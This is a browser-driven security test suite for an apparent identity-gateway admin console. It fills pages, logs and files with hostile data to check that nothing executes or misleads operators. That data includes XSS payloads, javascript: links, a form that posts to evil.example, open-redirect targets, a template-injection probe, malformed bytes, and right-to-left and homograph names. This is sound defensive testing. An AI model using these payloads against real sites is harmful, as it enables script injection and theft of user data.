// Hostile data on every page, in a real browser: what requests, records, files and operators say is seen, and does nothing. No
// script runs, nothing is asked of others, no row covers another, each button acts for the row that it stands in.

import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import {
  appendFile, cp, mkdtemp, readFile, rm, writeFile,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import {
  after, before, describe, test,
} from 'node:test';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';

import {
  REPOSITORY, addOperator, freePort, gatewayBinary, startGateway,
} from '../oidc/gateway.mjs';
import { launchChromium } from './chromium.mjs';
import {
  ACTING, HOMOGRAPH, LONG, MARKUP, NAMES, PILE, RIGHT_TO_LEFT, assertCoversNothing, assertInItsPlace, formToken, watched,
} from './hostile.mjs';
import { startIdentityServer } from './identity-server.mjs';
import { assertConsoleHeaders, assertInert } from './page-checks.mjs';

const TEST_WITHIN_MS = 120_000;
const SHOWS_WITHIN_MS = 60_000;
const PASSWORD = 'correct horse battery';
/** As long as an operator's name can be. */
const ADMIN = 'A'.repeat(64);
const OTHER_ADMIN = 'bea';
/** Applications whose users are held. */
const HELD = ['held</h2></section><button/formaction=//evil.example/>Release</button>', `held-${'W'.repeat(123)}`];
/** What may stand in the rollout file. */
const STAGES = [...MARKUP, PILE, RIGHT_TO_LEFT, HOMOGRAPH, 'paypal', 'W'.repeat(500)];

const toml = (text) => JSON.stringify(text);
const isHeld = HELD.map((id) => `client.id == ${JSON.stringify(id)}`).join(' || ');
const POLICY = `
version = 1
# ${MARKUP.join('\n# ')}
# ${RIGHT_TO_LEFT} ${PILE} ${'W'.repeat(2000)}

[[rule]]
name = "held"
when = ${toml(`request.door == "authorize" && (${isHeld})`)}
verdict = "review"

[[rule]]
name = "logins-are-refused"
when = 'request.door == "login"'
verdict = "block"

[[rule]]
name = "${'w'.repeat(64)}"
when = ${toml(`request.door == "authorize" && client.id == ${JSON.stringify(MARKUP[0])}`)}
verdict = "block"

[[rule]]
name = "the-rest-is-allowed"
when = "true"
verdict = "allow"
`;

const ROLLOUT = `approvals = 2

[default]
mode = "enforce"
approved_by = ["ada", "bo"]

[[stage]]
application = ${toml(MARKUP[2])}
mode = "monitor"
approved_by = ["ada", "bo"]
${STAGES.map((name, number) => `
[[stage]]
application = ${toml(name)}
tenant = ${toml(STAGES[(number + 3) % STAGES.length])}
mode = "advise"
approved_by = [${toml(name.slice(0, 200))}, "bo 12"]
approved_at = "2026-11-25T09:00:00.000Z"
reason = ${toml(STAGES[(number + 5) % STAGES.length])}
`).join('')}
${[MARKUP[0], RIGHT_TO_LEFT, 'W'.repeat(500)].map((name) => `
[[proposal]]
application = ${toml(name)}
mode = "advise"
percentage = 7
approved_by = [${toml(name)}]
approved_at = "2026-11-26T09:00:00.000Z"
reason = ${toml(`7 ${name.slice(0, 400)}`)}
`).join('')}`;

describe('hostile data on pages in a browser', () => {
  let directory;
  let origin;
  let identityServer;
  let gateway;
  let browser;
  let admin;

  const encoded = (text) => encodeURIComponent(text);

  const employ = (name, role) => addOperator(gateway, name, role, PASSWORD);

  const authorize = (clientId) => `${origin}/oauth2/authorize?response_type=code&scope=openid&redirect_uri=https://app.example/cb&client_id=${encoded(clientId)}`;

  /** Requests as a program sends them, each from an address of its own. */
  async function knock() {
    let number = 0;
    const send = (url, options = {}) => {
      number += 1;
      return fetch(url, {
        redirect: 'manual',
        ...options,
        headers: { 'X-Forwarded-For': `192.0.2.${number}`, 'User-Agent': MARKUP[number % MARKUP.length], ...options.headers },
      });
    };
    for (const name of NAMES) {
      await send(authorize(name.slice(0, 1000)));
      await send(`${origin}/commonauth`, { method: 'POST', body: new URLSearchParams({ username: name, password: name, sessionDataKey: 'x' }) });
    }
    for (const id of HELD) {
      const answer = await send(authorize(id));
      assert.equal(answer.status, 303, await answer.text());
    }
  }

  /** Records as no gateway writes them, beside those that it has written. */
  async function poison() {
    const file = path.join(gateway.directory, 'data/audit.jsonl');
    const until = Date.now() + SHOWS_WITHIN_MS;
    let model;
    do {
      assert.ok(Date.now() < until, 'no login is recorded');
      const lines = (await readFile(file, 'utf8')).split('\n').filter(Boolean).map((line) => JSON.parse(line));
      model = lines.find(({ door, subject, verdict }) => door === 'login' && subject && verdict);
    } while (!model);
    const texts = ['client_id', 'tenant', 'organization', 'as_org', 'browser', 'os', 'network', 'note', 'matched', 'operator', 'grant_type', 'error', 'ja4', 'model', 'policy', 'outcome'];
    const forged = [];
    const forge = (id, says) => {
      const record = { ...model, id, reasons: [says(0), 'ip_velocity', says(1)], skipped_rules: [says(2)] };
      for (const [place, field] of texts.entries()) record[field] = says(place);
      // The list of decisions shows what its verdict says.
      forged.push(JSON.stringify(record));
    };
    for (const [number, name] of NAMES.entries()) {
      forge(`hostile-${number}`, () => name);
      // Between them rows that are as they should be.
      forged.push(JSON.stringify({ ...model, id: `honest-${number}` }));
    }
    forge('hostile-mixed', (place) => NAMES[place % NAMES.length]);
    // Half of a pair: no text at all, and no reason to show nothing of the rest.
    forged.push(JSON.stringify({ ...model, id: 'half' }).replace('"id":"half"', '"id":"half\\ud800"'));
    await appendFile(file, `${forged.join('\n')}\n`);
    return { file, subject: model.subject };
  }

  before(async () => {
    directory = await mkdtemp(path.join(tmpdir(), 'riskgate-hostile-'));
    const [port, upstreamPort] = [await freePort(), await freePort()];
    origin = `http://localhost:${port}`;
    const [models, geo, rollout] = ['model', 'geo', 'rollout.toml'].map((name) => path.join(directory, name));
    await cp(path.join(REPOSITORY, 'conf/model'), models, { recursive: true });
    await writeFile(path.join(models, 'CARD.md'), [
      `# ${MARKUP[0]}`, ...NAMES, '| a | b |', '| --- | ---: |', ...MARKUP.map((text) => `| ${text.replaceAll('|', '')} | ${PILE} |`), `| ${'W'.repeat(500)} | [x](javascript:hurt(2)) |`,
      '', '```js\tskip&#9;notice" onclick="hurt(3)', MARKUP[1], '```', '[link](javascript:hurt(4)) ![image](https://evil.example/i) <javascript:hurt(5)> https://evil.example/', '', '> '.repeat(2000),
    ].join('\n\n').replaceAll('|\n\n|', '|\n|'));
    await cp(path.join(REPOSITORY, 'tests/data/geo'), geo, { recursive: true });
    await writeFile(path.join(geo, 'asn.csv'), `192.0.2.0,192.0.2.255,64496,"${MARKUP[2].replaceAll('"', '""')} ${RIGHT_TO_LEFT} 7"\n`);
    await writeFile(rollout, ROLLOUT);
    identityServer = await startIdentityServer({ port: upstreamPort, publicUrl: origin });
    gateway = await startGateway({
      port,
      upstream: `http://127.0.0.1:${upstreamPort}`,
      policy: POLICY,
      geo,
      args: ['--trusted-proxy', '127.0.0.0/8'],
      config: `[model]\ndir = ${toml(models)}\n\n[limits]\naddress_per_minute = 0\n\n[rollout]\nfile = ${toml(rollout)}`,
    });
    await Promise.all([employ(ADMIN, 'admin'), knock()]);
    await employ(OTHER_ADMIN, 'admin');
    browser = await launchChromium();
    admin = await signedIn(ADMIN);
  });

  after(async () => {
    await browser?.close();
    const ended = await gateway?.stop();
    await identityServer?.stop();
    await rm(directory, { recursive: true, force: true });
    assert.equal(ended ?? 0, 0);
  });

  async function signedIn(name) {
    const profile = await browser.profile();
    const seen = await watched(profile, [origin, gateway.adminUrl]);
    const until = Date.now() + SHOWS_WITHIN_MS;
    do {
      await seen.page.goto(`${gateway.adminUrl}/console/sign-in?to=${encoded('//evil.example/console')}`);
      await seen.page.getByLabel('Name').fill(name);
      await seen.page.getByLabel('Password').fill(PASSWORD);
      await seen.page.getByRole('button', { name: 'Sign in' }).click();
      await seen.page.waitForLoadState();
      assert.ok(Date.now() < until, `${name} is not let in`);
    } while (await seen.page.getByText('Sign out').count() === 0);
    assert.equal(seen.page.url(), `${gateway.adminUrl}/console`);
    return { ...seen, profile };
  }

  /** Opens a page of the console and looks at it on a wide screen and on a small one. */
  async function look({ page, assertUnharmed }, where, status = 200) {
    await page.setViewportSize({ width: 1280, height: 800 });
    const response = await page.goto(`${gateway.adminUrl}${where}`);
    const name = where.slice(0, 120);
    assert.equal(response.status(), status, name);
    assertConsoleHeaders(response);
    await assertInItsPlace(page, `${name}, wide`);
    if (await page.locator('form[method="post"]').count() > 0 && !where.startsWith('/console/sign-in')) await formToken(page);
    await page.setViewportSize({ width: 360, height: 640 });
    await assertInItsPlace(page, `${name}, small`);
    assertUnharmed(name);
    return response;
  }

  test('the checks find what they look for', { timeout: TEST_WITHIN_MS }, async () => {
    const profile = await browser.profile();
    const { page, assertUnharmed } = await watched(profile, []);
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.setContent(`<p>plain ${RIGHT_TO_LEFT}</p><main><table><tr><td><a href="#x">x</a></td></tr></table></main>`);
    await assertInItsPlace(page, 'nothing is wrong');
    for (const wrong of [
      '<p>a\u202eb</p>',
      '<div style="width: 3000px">wide</div>',
      '<main><table><tr><td><a href="#x">covered</a></td></tr></table></main><div style="position: fixed; inset: 0"></div>',
      `<p>${RIGHT_TO_LEFT} <i>${RIGHT_TO_LEFT}</i></p>`,
    ]) {
      await page.setContent(wrong);
      await assert.rejects(assertInItsPlace(page, 'wrong'), undefined, wrong);
    }
    await page.setContent(`<p>above</p><p id="pile">${PILE}</p><p>below</p>`);
    await assert.rejects(assertCoversNothing(page, page.locator('#pile'), 'a pile'));
    assertUnharmed('not yet');
    await page.setContent('<script>hurt("canary")</script>');
    assert.throws(() => assertUnharmed('canary'));
    await profile.close();
  });

  test('no page of the console does what its data say', { timeout: TEST_WITHIN_MS }, async () => {
    const { subject } = await poison();
    const { page } = admin;
    const until = Date.now() + SHOWS_WITHIN_MS;
    do {
      assert.ok(Date.now() < until, 'what was added does not show');
      await page.goto(`${gateway.adminUrl}/console?id=hostile-mixed`);
    } while (await page.locator('tbody tr').count() === 0);
    const numberOf = (text) => NAMES.indexOf(text);
    for (const where of [
      '/console',
      `/console?application=${encoded(MARKUP[3])}&subject=${encoded(MARKUP[2])}&id=${encoded(LONG)}&country=${encoded(PILE)}`,
      '/console?application=%FF%ED%A0%80%00&older=%FF',
      '/console/decisions/hostile-mixed',
      ...[LONG, PILE, RIGHT_TO_LEFT, ACTING[0], MARKUP[9]].map((text) => `/console/decisions/hostile-${numberOf(text)}`),
      `/console/decisions/hostile-0?feature=${encoded(MARKUP[2])}&value=${encoded(MARKUP[3])}`,
      `/console/decisions/honest-0?feature=geo_km&value=${encoded(MARKUP[3])}`,
      `/console/users/${subject}`,
      ...[MARKUP[0], LONG, PILE, ACTING[0]].map((text) => `/console/users/${encoded(text)}`),
      `/console/review?done=${encoded(MARKUP[0])}`,
      '/console/overview',
      '/console/monitor',
      '/console/model',
      '/console/policy?check=1',
      '/console/policy/edit',
      '/console/rollout',
      `/console/rollout?application=${encoded(MARKUP[2])}&tenant=${encoded(LONG)}&mode=${encoded(MARKUP[3])}&percentage=${encoded(MARKUP[3])}&done=${encoded(MARKUP[0])}`,
      '/console/sessions',
    ]) await look(admin, where);
    for (const [where, status] of [
      [`/console/${encoded(MARKUP[0])}`, 404],
      [`/console/decisions/${encoded(MARKUP[2])}`, 404],
      [`/console/policy/versions/${encoded(MARKUP[2])}`, 404],
      [`/console/sign-in/callback?error=${encoded(MARKUP[0])}&error_description=${encoded(MARKUP[2])}&state=${encoded(LONG)}`, 404],
    ]) await look(admin, where, status);
    // A path that is no text gets no page, but its headers.
    for (const bytes of ['%FF', '%ED%A0%80', '%C0%AF%3Cscript%3E']) {
      const response = await page.goto(`${gateway.adminUrl}/console/users/${bytes}`);
      assert.equal(response.status(), 400);
      assertConsoleHeaders(response);
    }
    const stranger = await browser.profile();
    const seen = await watched(stranger, [gateway.adminUrl]);
    for (const to of [...MARKUP, LONG, '/console/"><script>hurt(1)</script>', '/console?x=javascript:hurt(1)']) {
      await seen.page.goto(`${gateway.adminUrl}/console/sign-in?to=${encoded(to)}`);
      seen.assertUnharmed(to);
    }
    await look(seen, `/console/sign-in?to=${encoded('/console?"><script>hurt(1)</script>')}`);
    await stranger.close();
  });

  test('a name can be read, and covers no other row', { timeout: TEST_WITHIN_MS }, async () => {
    const { page } = admin;
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.goto(`${gateway.adminUrl}/console`);
    const row = (number) => page.locator('tbody tr', { has: page.locator(`a[href="/console/decisions/hostile-${number}"]`) });
    for (const text of [MARKUP[0], MARKUP[11], RIGHT_TO_LEFT, HOMOGRAPH]) assert.ok((await row(NAMES.indexOf(text)).innerText()).includes(text), text);
    // What nobody would see is seen, and two that look alike do not.
    assert.match(await row(NAMES.indexOf(ACTING[0])).innerText(), /k9\\u\{202e\}gpj/);
    assert.match(await row(NAMES.indexOf(ACTING[3])).innerText(), /pay\\u\{ad\}pal/);
    const pile = row(NAMES.indexOf(PILE));
    await pile.scrollIntoViewIfNeeded();
    await assertCoversNothing(page, pile, 'a decision');
    await page.goto(`${gateway.adminUrl}/console/decisions/hostile-${NAMES.indexOf(PILE)}`);
    for (const term of ['Application', 'Note']) {
      const fact = page.locator('dl.facts div', { has: page.locator('dt', { hasText: new RegExp(`^${term}$`) }) });
      await assertCoversNothing(page, fact, `a fact: ${term}`);
    }
    await page.goto(`${gateway.adminUrl}/console/rollout`);
    await assertCoversNothing(page, page.getByRole('row', { name: `Change the stage of ${STAGES[(STAGES.indexOf(PILE) + 3) % STAGES.length]}/${PILE}` }), 'a stage');
    admin.assertUnharmed('names');
  });

  test('each button acts for the row that it stands in', { timeout: TEST_WITHIN_MS }, async () => {
    const { page, assertUnharmed } = admin;
    await page.setViewportSize({ width: 1280, height: 800 });
    // Of two held logins the second is refused, with a reason that looks like the page.
    await page.goto(`${gateway.adminUrl}/console/review`);
    const held = (id) => page.locator('section.panel', { has: page.getByRole('heading', { name: id }) });
    assert.deepEqual(await Promise.all(HELD.map((id) => held(id).count())), [1, 1]);
    const reason = `${MARKUP[0]} ${RIGHT_TO_LEFT}`;
    await held(HELD[1]).getByLabel('Reason, for the record').fill(reason);
    await held(HELD[1]).getByRole('button', { name: 'Refuse' }).click();
    await page.getByText(/^Refused \(reference [0-9a-f]{8}\): the user is told so/).waitFor();
    assert.deepEqual(await Promise.all(HELD.map((id) => held(id).count())), [1, 0]);
    const decided = page.locator('tbody tr', { hasText: HELD[1] });
    assert.match(await decided.innerText(), /refused/);
    assert.ok((await decided.innerText()).includes(reason));
    await look(admin, '/console/review');
    await page.setViewportSize({ width: 1280, height: 800 });

    // Of a decision the word stays with it, and its parts in their order.
    await page.goto(`${gateway.adminUrl}/console/decisions/honest-1`);
    await page.getByLabel('How you know, for the record').fill(`12 ${RIGHT_TO_LEFT} ${PILE.slice(0, 90)}`);
    await page.getByLabel('Kind of attack, if it was one').fill(`${RIGHT_TO_LEFT} 7`);
    await page.getByRole('button', { name: 'Confirm compromised' }).click();
    await page.waitForURL(/honest-1\?done=label/);
    await assertInItsPlace(page, 'a label');
    await page.goto(`${gateway.adminUrl}/console/decisions/honest-2`);
    assert.equal(await page.locator('.badge.compromised').count(), 0);

    // What is approved is what was shown: who asked has asked for more meanwhile.
    const bea = await signedIn(OTHER_ADMIN);
    const ask = async (percentage) => {
      await bea.page.goto(`${gateway.adminUrl}/console/rollout?application=${encoded(MARKUP[2])}&mode=enforce&percentage=${percentage}`);
      await bea.page.locator('#reason').fill(MARKUP[4]);
      await bea.page.getByRole('button', { name: 'Promote' }).click();
      await bea.page.getByText('Written: in force').waitFor();
    };
    await ask(5);
    await page.goto(`${gateway.adminUrl}/console/rollout`);
    const waiting = page.locator('section.panel', { has: page.getByRole('heading', { name: MARKUP[2] }) });
    assert.match(await waiting.innerText(), /enforce 5 %/);
    await ask(100);
    await waiting.getByRole('button', { name: 'Approve' }).click();
    await page.getByText('What waits is').waitFor();
    await page.goto(`${gateway.adminUrl}/console/rollout`);
    assert.match(await waiting.innerText(), /enforce 100 %/);
    await waiting.getByRole('button', { name: 'Approve' }).click();
    await page.getByText('Written: in force').waitFor();
    // A name is what it looks like.
    await bea.page.goto(`${gateway.adminUrl}/console/rollout?mode=enforce&percentage=10`);
    await bea.page.evaluate(() => { document.querySelector('#application').value = 'pay\u200bpal'; });
    await bea.page.locator('#reason').fill('nobody sees it');
    await bea.page.getByRole('button', { name: 'Promote' }).click();
    await bea.page.getByText('a control or invisible').waitFor();
    await look(bea, '/console/rollout');

    // One's own session goes on when that of another is ended.
    await page.goto(`${gateway.adminUrl}/console/sessions`);
    await page.getByRole('button', { name: `End the session of ${OTHER_ADMIN}` }).click();
    await page.waitForURL(/sessions$/);
    assert.match((await bea.page.goto(`${gateway.adminUrl}/console/review`)).url(), /sign-in/);
    await bea.profile.close();
    assertUnharmed('buttons');
  });

  test('a policy is edited whatever stands in it', { timeout: TEST_WITHIN_MS }, async () => {
    const { page } = admin;
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.goto(`${gateway.adminUrl}/console/policy/edit`);
    const text = page.getByLabel('Policy, in TOML');
    assert.equal(await text.inputValue(), POLICY);
    const draft = `${POLICY}# </textarea>${MARKUP[0]}\n`;
    await text.fill(draft);
    await page.getByLabel('Why, for the record').fill(`${MARKUP[3]}${RIGHT_TO_LEFT}`);
    await page.getByRole('button', { name: 'Check and replay' }).click();
    await page.getByRole('button', { name: 'Save' }).waitFor();
    await assertInItsPlace(page, 'a draft');
    assert.equal(await text.inputValue(), draft);
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByText('Saved: a reload takes it over').waitFor();
    assert.equal(await text.inputValue(), draft);
    const versions = page.getByRole('region', { name: 'Versions of the file, the latest first' });
    await versions.locator('tbody tr').last().getByRole('link').click();
    await page.getByRole('heading', { name: /Policy version/ }).waitFor();
    await look(admin, new URL(page.url()).pathname);
    // A file from a system that ends its lines otherwise.
    await writeFile(path.join(gateway.directory, 'policy.toml'), POLICY.replaceAll('\n', '\r\n'));
    await page.goto(`${gateway.adminUrl}/console/policy/edit`);
    assert.equal(await text.inputValue(), POLICY);
    assert.equal(await page.getByText('invisible characters').count(), 0);
    await page.getByRole('button', { name: 'Check and replay' }).click();
    await page.getByRole('heading', { name: 'What the checker says' }).waitFor();
    assert.equal(await page.getByText('It cannot be saved so').count(), 0);
    admin.assertUnharmed('the editor');
  });

  test('pages for users say nothing of what was sent', { timeout: TEST_WITHIN_MS }, async () => {
    const profile = await browser.profile();
    const { page, assertUnharmed } = await watched(profile, [origin]);
    const seen = async (response, statuses, what) => {
      assert.ok(statuses.includes(response.status()), `${what.slice(0, 80)}: ${response.status()}`);
      await assertInert(page, response);
      assert.doesNotMatch(await response.text(), /hurt|evil|WWWW|[\u0300-\u0fff]/, what.slice(0, 80));
      await assertInItsPlace(page, what.slice(0, 80));
      assertUnharmed(what.slice(0, 80));
    };
    await seen(await page.goto(`${authorize(MARKUP[0])}&state=${encoded(MARKUP[1])}&login_hint=${encoded(PILE)}&error=${encoded(MARKUP[2])}&error_description=${encoded(MARKUP[4])}`), [403], 'refused');
    for (const id of HELD) {
      await page.goto(`${authorize(id)}&state=${encoded(MARKUP[2])}`);
      await seen(await page.goto(`${page.url().split('?')[0]}?look=off`), [200, 202], 'held');
    }
    const longest = encoded(LONG).slice(0, 6_500);
    for (const [where, statuses] of [
      [`/${encoded(MARKUP[0])}`, [400, 404]],
      [`/t/${encoded(RIGHT_TO_LEFT)}/oauth2/authorize?client_id=a`, [400]],
      ['/oauth2/authorize?client_id=%FF%ED%A0%80', [400]],
      ['/%ED%A0%80%FF', [400]],
      [`/riskgate/review/${'a'.repeat(200)}?look=${encoded(MARKUP[2])}`, [404]],
      [`/riskgate/step/${'a'.repeat(80)}?tenant=${encoded(MARKUP[2])}`, [404, 410]],
      [`/riskgate/devices?forgotten=${encoded(MARKUP[0])}`, [200]],
      [`/riskgate/approve?approved=${encoded(MARKUP[0])}`, [200]],
      [`/riskgate/${encoded('{{7*7}}')}`, [404]],
      [`/oauth2/authorize?client_id=${longest}`, [414]],
    ]) await seen(await page.goto(`${origin}${where}`), statuses, where);
    // Account names, as a form sends them.
    for (const name of NAMES) {
      await page.goto(`${origin}/riskgate/devices`);
      const [response] = await Promise.all([
        page.waitForResponse((answer) => answer.url().endsWith('/commonauth')),
        page.evaluate((username) => {
          // The policy of the page lets forms go to its own origin.
          const form = document.createElement('form');
          Object.assign(form, { method: 'post', action: '/commonauth' });
          for (const [field, value] of Object.entries({ username, password: username, sessionDataKey: username.slice(0, 100) })) form.append(Object.assign(document.createElement('textarea'), { name: field, value }));
          document.body.append(form);
          form.submit();
        }, name),
      ]);
      await page.waitForLoadState();
      await seen(response, [400, 403], `the account ${name}`);
    }
    await profile.close();
  });

  test('the report of a replay does nothing wherever it is opened', { timeout: TEST_WITHIN_MS }, async () => {
    const policy = path.join(directory, '"><script>hurt(1)<&script>.toml');
    const report = path.join(directory, 'report.html');
    await writeFile(policy, 'version = 1\n[[rule]]\nname = "all"\nwhen = "true"\nverdict = "block"\n');
    await promisify(execFile)(gatewayBinary(), ['replay', '--policy', policy, '--html', report, path.join(gateway.directory, 'data/audit.jsonl')], { cwd: REPOSITORY });
    const profile = await browser.profile();
    const { page, assertUnharmed } = await watched(profile, ['null']);
    await page.goto(pathToFileURL(report).href);
    await page.getByRole('heading', { name: 'By application' }).waitFor();
    assert.ok((await page.locator('body').innerText()).includes(MARKUP[0]));
    await assertInItsPlace(page, 'the report');
    assertUnharmed('the report');
    await profile.close();
  });
});
